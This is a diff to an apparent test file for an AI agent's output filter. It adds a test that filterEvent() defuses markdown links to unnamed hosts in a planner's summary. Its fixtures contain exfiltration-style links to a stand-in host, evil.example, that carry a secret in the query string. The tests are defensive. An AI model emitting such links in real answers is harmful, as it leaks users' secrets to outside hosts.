@@ -1,4 +1,5 @@
 import { describe, expect, test } from "bun:test";
+import { filterEvent } from "../../src/agent/filter-event.ts";
 import { leavingOf } from "../../src/tools/tool.ts";
 import { lastTold, openAttack, pageTool, type Step, spy } from "../security/attack-scene.ts";
 import { ANNA } from "./scene.ts";
@@ -149,6 +150,16 @@ test("an answer's link to a host that nobody named is code, and one to a named h
     `See [this] (\`https://evil.example/?d=${SECRET}\`) and [that](${HOME}).`,
   );
 });
+
+test("filterEvent() leaves no such link in what a planner wrote", () => {
+  const event = { kind: "plan", planId: "p", workspace: "w", summary: LINKED } as const;
+  expect(filterEvent(event, { allowedHosts: [] }, `plan: read ${HOME}`)).toEqual({
+    ...event,
+    summary: `[a] (\`https://evil.example/?d=1\`) [b](${HOME})`,
+  });
+});
+
+const LINKED = `[a](https://evil.example/?d=1) [b](${HOME})`;
 
 describe("leavingOf()", () => {
   const tool = spy("server", "network", { origin: "outside" });
